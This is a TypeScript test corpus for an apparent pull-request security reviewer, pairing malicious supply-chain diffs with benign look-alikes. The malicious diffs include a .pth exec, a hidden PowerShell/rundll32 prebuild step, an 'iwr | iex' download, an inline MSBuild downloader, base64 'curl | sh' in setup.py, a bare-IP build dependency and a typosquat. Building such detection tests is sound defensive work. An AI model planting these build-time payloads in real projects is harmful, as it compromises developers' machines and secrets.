    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:build-wrapper-changed'] },
  }),
  buildCase({
    id: 'pth-file-starts-payload',
    description: 'A package gains a .pth file whose import line decodes and runs a payload at every Python start (the technique of malicious PyPI packages).',
    number: 7229,
    repo: 'fastjsonx',
    title: 'Support namespace installs',
    author: CONTRIBUTOR,
    files: [{ path: 'src/fastjsonx_ns.pth', head: lines('import os, base64; exec(base64.b64decode(b"aW1wb3J0IHNvY2tldA=="))') }],
    checks: PY_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pth-file-code'] },
  }),
  buildCase({
    id: 'gradle-publishing-credentials-from-env',
    description: 'build.gradle.kts gains a publishing block that reads the GitHub Packages token from the environment: ordinary release configuration.',
    number: 7224,
    repo: 'billing-client',
    title: 'Publish to GitHub Packages',
    author: MAINTAINER,
    files: [
      {
        path: 'build.gradle.kts',
        base: lines('plugins { java; `maven-publish` }'),
        head: lines(
          'plugins { java; `maven-publish` }',
          'publishing {',
          '    repositories { maven {',
          '        url = uri("https://maven.pkg.github.com/acme/billing-client")',
          '        credentials { username = System.getenv("GITHUB_ACTOR"); password = System.getenv("GITHUB_TOKEN") }',
          '    } }',
          '}',
        ),
      },
    ],
    checks: JVM_CI,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  buildCase({
    id: 'pyproject-in-tree-backend-added',
    description: 'A contributor "modernizes packaging": pyproject.toml now loads its build backend from a folder of the repository (backend-path), whose module runs on every pip install from source.',
    number: 7238,
    repo: 'ledger-py',
    title: 'Modernize packaging metadata',
    author: CONTRIBUTOR,
    files: [
      {
        path: 'pyproject.toml',
        base: lines('[build-system]', 'requires = ["setuptools>=69"]', 'build-backend = "setuptools.build_meta"', '', '[project]', 'name = "ledger-py"', 'version = "2.3.0"'),
        head: lines('[build-system]', 'requires = ["setuptools>=69"]', 'build-backend = "backend"', 'backend-path = ["_build_support"]', '', '[project]', 'name = "ledger-py"', 'version = "2.3.0"'),
      },
      { path: '_build_support/backend.py', status: 'added', head: lines('from setuptools.build_meta import *  # noqa', 'import _build_support.telemetry  # noqa: F401') },
    ],
    checks: PY_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['python-setup-script'] },
  }),
  buildCase({
    id: 'pyproject-move-to-hatchling',
    description: 'A maintainer moves packaging from setuptools to hatchling with hatch-vcs for the version: a published backend and Hatch\'s own hook.',
    number: 7239,
    repo: 'ledger-py',
    title: 'Build with hatchling',
    author: MAINTAINER,
    files: [
      {
        path: 'pyproject.toml',
        base: lines('[build-system]', 'requires = ["setuptools>=69"]', 'build-backend = "setuptools.build_meta"', '', '[project]', 'name = "ledger-py"', 'version = "2.3.0"'),
        head: lines('[build-system]', 'requires = ["hatchling", "hatch-vcs"]', 'build-backend = "hatchling.build"', '', '[project]', 'name = "ledger-py"', 'dynamic = ["version"]', '', '[tool.hatch.version]', 'source = "vcs"', '', '[tool.hatch.build.hooks.vcs]', 'version-file = "src/ledger/_version.py"'),
      },
    ],
    checks: PY_CI,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:python-setup-script'] },
  }),
  buildCase({
    id: 'yarn-release-edited-in-place',
    description: 'A "lint fixes" PR that also edits the committed Yarn release that every yarn command runs, under the same versioned name and with .yarnrc.yml untouched.',
    number: 7236,
    repo: 'storefront',
    title: 'Fix lint warnings in the cart module',
    author: CONTRIBUTOR,
    files: [
      { path: 'src/cart/totals.ts', base: lines('export const total = (xs: number[]) => xs.reduce((a, b) => a + b, 0)'), head: lines('export const total = (xs: readonly number[]): number => xs.reduce((a, b) => a + b, 0);') },
      { path: '.yarn/releases/yarn-4.5.3.cjs', status: 'modified', patch: null, additions: 1, deletions: 1, base: '', head: '' },
    ],
    checks: nodeCi(),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed'] },
  }),
  buildCase({
    id: 'yarn-set-version-upgrade',
    description: 'A maintainer upgrades Yarn as `yarn set version` writes it: a new release file, yarnPath moved to it, the old one removed, packageManager with its new hash.',
    number: 7237,
    repo: 'storefront',
    title: 'Upgrade Yarn to 4.6.0',
    author: MAINTAINER,
    files: [
      { path: '.yarn/releases/yarn-4.5.3.cjs', status: 'removed', patch: null, additions: 0, deletions: 934, base: '' },
      { path: '.yarn/releases/yarn-4.6.0.cjs', status: 'added', patch: null, additions: 934, deletions: 0, head: '' },
      {
        path: '.yarnrc.yml',
        base: lines('nodeLinker: node-modules', '', 'yarnPath: .yarn/releases/yarn-4.5.3.cjs'),
        head: lines('nodeLinker: node-modules', '', 'yarnPath: .yarn/releases/yarn-4.6.0.cjs'),
      },
      {
        path: 'package.json',
        base: `${JSON.stringify({ name: 'storefront', private: true, packageManager: 'yarn@4.5.3+sha512.3003a14012e2987072d244c720506549c1aab73ee728208f1b2580a9fd67b92d61ba6b08fe93f6dce68fd771e3af1e59a0afa28dd242dd0940d73b95fedd4e90', dependencies: { react: '^18.3.1' } }, null, 2)}\n`,
        head: `${JSON.stringify({ name: 'storefront', private: true, packageManager: 'yarn@4.6.0+sha512.5383cc12567a95f1d668fbe762dfe0075c595b4bfff433be478dbbe24e05251a8e8c3eb992a986667c1d53b6c3a9c85b8398c35a960587fbd9fa3a0915406728', dependencies: { react: '^18.3.1' } }, null, 2)}\n`,
      },
    ],
    checks: nodeCi(),
    // .yarnrc.yml is registry configuration (a sensitive path): a glance at it is fair, an alarm is not.
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-wrapper-changed', 'finding:npm-registry-override'] },
  }),
  // .NET (PRs 7240-7249): MSBuild projects that run a payload when they are built, modeled on the
  // 2021 Lazarus Visual Studio projects sent to security researchers (Google TAG, January 2021) and
  // the fake proof-of-concept repositories since 2023; nuget.config feeds beside nuget.org
  // (dependency confusion); and the ordinary .NET PRs that resemble them.
  buildCase({
    id: 'vcxproj-prebuild-rundll32-disguised-dll',
    description: 'A "researcher" shares a Visual Studio project whose PreBuildEvent runs a hidden PowerShell that loads x64\\Debug\\Browse.VC.db (a DLL named like Visual Studio\'s browse database) with rundll32: the 2021 Lazarus shape.',
    number: 7240,
    repo: 'vr-research',
    title: 'Add the PoC project for the heap overflow',
    author: NEWCOMER,
    files: [
      {
        path: 'VS_Project/VS_Project.vcxproj',
        head: lines(
          '<?xml version="1.0" encoding="utf-8"?>',
          '<Project DefaultTargets="Build" ToolsVersion="16.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003">',
          '  <ItemGroup Label="ProjectConfigurations">',
          '    <ProjectConfiguration Include="Debug|x64"><Configuration>Debug</Configuration><Platform>x64</Platform></ProjectConfiguration>',
          '  </ItemGroup>',
          "  <ItemDefinitionGroup Condition=\"'$(Configuration)|$(Platform)'=='Debug|x64'\">",
          '    <ClCompile><WarningLevel>Level3</WarningLevel></ClCompile>',
          '    <PreBuildEvent>',
          '      <Command>powershell -executionpolicy bypass -nol -noni -w hidden -c if(([system.environment]::osversion.version.major -eq 10) -and [system.environment]::is64bitoperatingsystem -and (Test-Path x64\\Debug\\Browse.VC.db)){rundll32 x64\\Debug\\Browse.VC.db,ENGINE_get_RAND 7am1cKZAEb9Nl1pL 4201 }</Command>',
          '    </PreBuildEvent>',
          '  </ItemDefinitionGroup>',
          '  <ItemGroup><ClCompile Include="poc.cpp" /></ItemGroup>',
          '</Project>',
        ),
      },
      { path: 'VS_Project/x64/Debug/Browse.VC.db', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
      { path: 'VS_Project/poc.cpp', additions: 60 },
    ],
    checks: [],
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
  }),
  buildCase({
    id: 'csproj-fake-poc-iwr-iex',
    description: 'A fake proof-of-concept for a fresh CVE: the csproj runs `powershell -w hidden -c "iwr -useb https://... | iex"` in a target before every build.',
    number: 7241,
    repo: 'cve-pocs',
    title: 'Add working PoC for CVE-2026-21001',
    author: NEWCOMER,
    files: [
      {
        path: 'CVE-2026-21001/Exploit.csproj',
        head: lines(
          '<Project Sdk="Microsoft.NET.Sdk">',
          '  <PropertyGroup>',
          '    <OutputType>Exe</OutputType>',
          '    <TargetFramework>net8.0</TargetFramework>',
          '  </PropertyGroup>',
          '  <Target Name="CheckDeps" BeforeTargets="PreBuildEvent">',
          '    <Exec Command="cmd.exe /c powershell -w hidden -ep bypass -c &quot;iwr -useb https://cdn.poc-updates.example/deps.ps1 | iex&quot;" />',
          '  </Target>',
          '</Project>',
        ),
      },
      { path: 'CVE-2026-21001/Program.cs', additions: 120 },
      { path: 'README.md', additions: 30 },
    ],
    checks: [],
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
  }),
  buildCase({
    id: 'directory-build-targets-inline-task-downloads',
    description: 'A Directory.Build.targets (imported by every project unasked) gains a RoslynCodeTaskFactory inline task whose C# downloads a helper and starts it before each build.',
    number: 7242,
    repo: 'payments-dotnet',
    title: 'build: warm the analyzer cache before compiling',
    author: NEWCOMER,
    files: [
      {
        path: 'Directory.Build.targets',
        head: lines(
          '<Project>',
          '  <UsingTask TaskName="WarmCache" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">',
          '    <Task>',
          '      <Code Type="Fragment" Language="cs"><![CDATA[',
          '        var data = new System.Net.WebClient().DownloadData("https://analyzer-cache.example.net/warm.bin");',
          '        var path = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "warm.exe");',
          '        System.IO.File.WriteAllBytes(path, data);',
          '        System.Diagnostics.Process.Start(path);',
          '      ]]></Code>',
          '    </Task>',
          '  </UsingTask>',
          '  <Target Name="WarmCache" BeforeTargets="CoreCompile"><WarmCache /></Target>',
          '</Project>',
        ),
      },
    ],
    checks: green('build', 'test'),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
  }),
  buildCase({
    id: 'nuget-config-extra-feed-dependency-confusion',
    description: 'nuget.config gains the company feed next to nuget.org, with no packageSourceMapping: every internal package name can be claimed on nuget.org (dependency confusion).',
    number: 7243,
    repo: 'payments-dotnet',
    title: 'Restore internal packages from our feed',
    author: CONTRIBUTOR,
    files: [
      {
        path: 'nuget.config',
        base: lines('<?xml version="1.0" encoding="utf-8"?>', '<configuration>', '  <packageSources>', '    <add key="nuget.org" value="https://api.nuget.org/v3/index.json" />', '  </packageSources>', '</configuration>'),
        head: lines(
          '<?xml version="1.0" encoding="utf-8"?>',
          '<configuration>',
          '  <packageSources>',
          '    <add key="nuget.org" value="https://api.nuget.org/v3/index.json" />',
          '    <add key="acme-internal" value="https://pkgs.acme-payments.example/nuget/v3/index.json" />',
          '  </packageSources>',
          '</configuration>',
        ),
      },
      {
        path: 'src/Payments/Payments.csproj',
        base: lines('<Project Sdk="Microsoft.NET.Sdk">', '  <ItemGroup>', '    <PackageReference Include="Serilog" Version="4.0.1" />', '  </ItemGroup>', '</Project>'),
        head: lines('<Project Sdk="Microsoft.NET.Sdk">', '  <ItemGroup>', '    <PackageReference Include="Serilog" Version="4.0.1" />', '    <PackageReference Include="Acme.Payments.Contracts" Version="2.3.0" />', '  </ItemGroup>', '</Project>'),
      },
    ],
    checks: green('build', 'test'),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['nuget-source-override'] },
  }),
  buildCase({
    id: 'csproj-spa-build-and-version-exec',
    description: 'A maintainer wires an ASP.NET Core project to build its SPA (npm ci, npm run build), stamp the version from git describe, restore local tools and sign the output: ordinary MSBuild Exec steps.',
    number: 7244,
    repo: 'payments-dotnet',
    title: 'Build the ClientApp on publish and stamp the version',
    author: MAINTAINER,
    files: [
      {
        path: 'src/Web/Web.csproj',
        base: lines('<Project Sdk="Microsoft.NET.Sdk.Web">', '  <PropertyGroup>', '    <TargetFramework>net8.0</TargetFramework>', '  </PropertyGroup>', '</Project>'),
        head: lines(
          '<Project Sdk="Microsoft.NET.Sdk.Web">',
          '  <PropertyGroup>',
          '    <TargetFramework>net8.0</TargetFramework>',
          '    <SpaRoot>ClientApp\\</SpaRoot>',
          '  </PropertyGroup>',
          '  <Target Name="RestoreTools" BeforeTargets="Build">',
          '    <Exec Command="dotnet tool restore" />',
          '    <Exec Command="git describe --tags --always --dirty" ConsoleToMSBuild="true" StandardOutputImportance="low">',
          '      <Output TaskParameter="ConsoleOutput" PropertyName="GitDescribe" />',
          '    </Exec>',
          '  </Target>',
          '  <Target Name="PublishRunWebpack" AfterTargets="ComputeFilesToPublish">',
          '    <Exec WorkingDirectory="$(SpaRoot)" Command="npm ci" />',
          '    <Exec WorkingDirectory="$(SpaRoot)" Command="npm run build -- --configuration production" />',
          '  </Target>',
          "  <Target Name=\"Sign\" AfterTargets=\"Build\" Condition=\"'$(SignOutput)' == 'true'\">",
          '    <Exec Command="signtool sign /fd sha256 /tr http://timestamp.digicert.com /td sha256 /f &quot;$(CertificatePath)&quot; &quot;$(TargetPath)&quot;" />',
          '  </Target>',
          '  <Target Name="CopyOut" AfterTargets="Build">',
          '    <Exec Command="xcopy /Y /I &quot;$(TargetDir)*.dll&quot; &quot;$(MSBuildThisFileDirectory)..\\..\\artifacts\\&quot;" />',
          '  </Target>',
          '</Project>',
        ),
      },
    ],
    checks: green('build', 'test'),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
  }),
  buildCase({
    id: 'dependabot-nuget-central-bump',
    description: 'Dependabot bumps Serilog 4.0.1 -> 4.0.2 in Directory.Packages.props and the lockfile of the project below it; CI green.',
    number: 7245,
    repo: 'payments-dotnet',
    title: 'Bump Serilog from 4.0.1 to 4.0.2',
    author: DEPENDABOT,
    files: [
      {
        path: 'Directory.Packages.props',
        base: lines('<Project>', '  <PropertyGroup><ManagePackageVersionsCentrally>true</ManagePackageVersionsCentrally></PropertyGroup>', '  <ItemGroup>', '    <PackageVersion Include="Serilog" Version="4.0.1" />', '    <PackageVersion Include="Polly" Version="8.4.1" />', '  </ItemGroup>', '</Project>'),
        head: lines('<Project>', '  <PropertyGroup><ManagePackageVersionsCentrally>true</ManagePackageVersionsCentrally></PropertyGroup>', '  <ItemGroup>', '    <PackageVersion Include="Serilog" Version="4.0.2" />', '    <PackageVersion Include="Polly" Version="8.4.1" />', '  </ItemGroup>', '</Project>'),
      },
      {
        path: 'src/Payments/packages.lock.json',
        base: `${JSON.stringify({ version: 2, dependencies: { 'net8.0': { Serilog: { type: 'CentralTransitive', requested: '[4.0.1, )', resolved: '4.0.1', contentHash: 'Kd2pYy+Wn9Ss0mpV0i8xO1xg2Xyq8TcGzjH0YqIAmG3Fgx2h2A5n0QGf8m9XlVYgMZ6kA0TgX3a1Q7rjr3eBmA==' }, Polly: { type: 'Direct', requested: '[8.4.1, )', resolved: '8.4.1', contentHash: 'Wq3cS9Ao4u1q0t0JXj7ilrO0t4cB2h7yQyVfDWn4oCSe8dbm0sJXzQ3bMk0T9gOKT6d3c1Ly3jYBb6qCwdfOvQ==' } } } }, null, 2)}\n`,
        head: `${JSON.stringify({ version: 2, dependencies: { 'net8.0': { Serilog: { type: 'CentralTransitive', requested: '[4.0.2, )', resolved: '4.0.2', contentHash: 'pB8v3Pp0sF8cN3e0Z2W6M1dN7c0qkC9H5H2A4r3n6xT1vB0pQ7kP2mXyL5eR8dJ1uG4hS6wN3cV9bZ0aF2tK7w==' }, Polly: { type: 'Direct', requested: '[8.4.1, )', resolved: '8.4.1', contentHash: 'Wq3cS9Ao4u1q0t0JXj7ilrO0t4cB2h7yQyVfDWn4oCSe8dbm0sJXzQ3bMk0T9gOKT6d3c1Ly3jYBb6qCwdfOvQ==' } } } }, null, 2)}\n`,
      },
    ],
    checks: green('build', 'test'),
    extra: { headBranch: 'dependabot/nuget/Serilog-4.0.2', labels: ['dependencies', '.NET'] },
    expect: { level: 'low', action: 'approve', noFindings: true },
  }),
  buildCase({
    id: 'nuget-config-local-folder-feed',
    description: 'A maintainer adds a local folder feed (the packages the repository builds itself, for its integration tests) to nuget.config: no host anyone else controls.',
    number: 7246,
    repo: 'payments-dotnet',
    title: 'tests: restore the freshly built packages from artifacts/',
    author: MAINTAINER,
    files: [
      {
        path: 'NuGet.Config',
        base: lines('<?xml version="1.0" encoding="utf-8"?>', '<configuration>', '  <packageSources>', '    <clear />', '    <add key="nuget.org" value="https://api.nuget.org/v3/index.json" />', '  </packageSources>', '</configuration>'),
        head: lines('<?xml version="1.0" encoding="utf-8"?>', '<configuration>', '  <packageSources>', '    <clear />', '    <add key="nuget.org" value="https://api.nuget.org/v3/index.json" />', '    <add key="local-artifacts" value="./artifacts/packages" />', '  </packageSources>', '</configuration>'),
      },
    ],
    checks: green('build', 'test'),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
  }),
  buildCase({
    id: 'setup-py-runs-decoded-command',
    description:
      'A "packaging cleanup" adds to setup.py a line that loads os by name and runs a base64-decoded command at install time (`__import__("os").system(base64.b64decode(…).decode())`): the PyPI stealers\' form of hiding the download from a reader of setup.py.',
    number: 7250,
    repo: 'geo-utils-py',
    title: 'Packaging cleanup',
    author: NEWCOMER,
    files: [
      {
        path: 'setup.py',
        base: lines('from setuptools import setup', '', 'setup(name="geo-utils", version="2.3.0", packages=["geo_utils"])'),
        head: lines(
          'import base64',
          'from setuptools import setup',
          '',
          '__import__("os").system(base64.b64decode("Y3VybCAtZnNTTCBodHRwczovL2Nkbi1weXBpLW1pcnJvci5uZXQvaW5zdGFsbC5zaCB8IHNo").decode())',
          'setup(name="geo-utils", version="2.3.1", packages=["geo_utils"])',
        ),
      },
    ],
    checks: PY_CI,
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
  }),
  buildCase({
    id: 'pyproject-build-requirement-from-bare-ip',
    description:
      'A "build fix" adds to pyproject.toml\'s [build-system] requires a helper taken from a tarball on a bare IP over plain HTTP: pip and uv download it and run its code on every install from source, before any of the project\'s own code. A build requirement is a dependency too.',
    number: 7251,
    repo: 'geo-utils-py',
    title: 'Fix the sdist build on Python 3.13',
    author: NEWCOMER,
    files: [
      {
        path: 'pyproject.toml',
        base: lines('[build-system]', 'requires = ["setuptools>=68", "wheel"]', 'build-backend = "setuptools.build_meta"', '', '[project]', 'name = "geo-utils"', 'version = "2.3.0"', 'dependencies = ["shapely>=2.0"]'),
        head: lines('[build-system]', 'requires = ["setuptools>=68", "wheel", "sdist-compat @ http://45.61.139.18/sdist_compat-1.0.tar.gz"]', 'build-backend = "setuptools.build_meta"', '', '[project]', 'name = "geo-utils"', 'version = "2.3.0"', 'dependencies = ["shapely>=2.0"]'),
      },
    ],
    checks: PY_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['url-dependency'] },
  }),
  buildCase({
    id: 'npm-lookalike-scope-any-package',
    description:
      'Modeled on the 2024 `@typescript_eslinter/eslint` package: a "lint setup" PR adds a devDependency under a scope dressed as @typescript-eslint (an underscore, two letters more) with a package name no popular package of that scope has.',
    number: 7252,
    repo: 'storefront-web',
    title: 'chore: lint setup',
    author: NEWCOMER,
    files: [
      {
        path: 'package.json',
        base: packageJson({ name: 'storefront-web', version: '2.4.0', dependencies: { react: '^18.3.1' }, devDependencies: { eslint: '^9.17.0' } }),
        head: packageJson({ name: 'storefront-web', version: '2.4.0', dependencies: { react: '^18.3.1' }, devDependencies: { eslint: '^9.17.0', '@typescript_eslinter/eslint': '^1.0.3' } }),
      },
    ],
    checks: green('build', 'lint', 'test'),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
  }),
];

export const PACKAGE_CASES: CorpusEntry[] = [
  {
    id: 'lockfile-maintenance-gains-install-script',
    description: 'Renovate lock file maintenance moves debug 4.3.7 to 4.3.8, and the new version suddenly runs a postinstall (a hijacked patch release).',
    fixture: () => {
      const locked = WEBAPP_LOCKED.map((p) => (p.name === 'debug' ? { ...p, version: '4.3.8', hasInstallScript: true } : p));
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 2011,
        title: 'chore(deps): lock file maintenance',
        body: '🔧 This Pull Request updates lock files to use the latest dependency versions.',
        author: RENOVATE,
        headBranch: 'renovate/lock-file-maintenance',
        files: [{ path: 'package-lock.json', base: packageLock(WEBAPP, WEBAPP_LOCKED), head: packageLock(WEBAPP, locked) }],
        commits: [{ message: 'chore(deps): lock file maintenance', authorEmail: '29139614+renovate[bot]@users.noreply.github.com' }],
        checkRuns: nodeCi(),
        createdAt: daysAgo(0, 6),
      });
    },
    expect: { level: 'high', action: ['needs_discussion', 'request_changes'], findings: ['install-script-added'] },
  },
  {
    id: 'lockfile-moves-to-mirror',
    description: 'A contributor regenerates package-lock.json: unchanged versions of ms and debug now download from the company mirror the lockfile already used for one package.',
    fixture: () => {
      const mirror = (name: string, version: string): string => `https://npm.corp.example/${name}/-/${name}-${version}.tgz`;
      const base = WEBAPP_LOCKED.map((p) => (p.name === 'pino' ? { ...p, resolved: mirror('pino', p.version) } : p));
      const head = base.map((p) => (p.name === 'ms' || p.name === 'debug' ? { ...p, resolved: mirror(p.name, p.version) } : p));
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 2012,
        title: 'chore: regenerate lockfile against the mirror',
        body: 'npm install behind the VPN picks the mirror.',
        author: { login: 'dk-contrib', association: 'CONTRIBUTOR', createdAt: '2021-05-19T10:00:00Z' },
        files: [{ path: 'package-lock.json', base: packageLock(WEBAPP, base), head: packageLock(WEBAPP, head) }],
        commits: [{ message: 'chore: regenerate package-lock.json' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 3, merged: 2 },
        createdAt: daysAgo(1),
      });
    },
    expect: { level: ['low', 'medium'], action: 'comment', findings: ['lockfile-source-changed'], absentDrivers: ['finding:lockfile-foreign-host'] },
  },
  ...BUILD_AND_NAME_CASES,
];
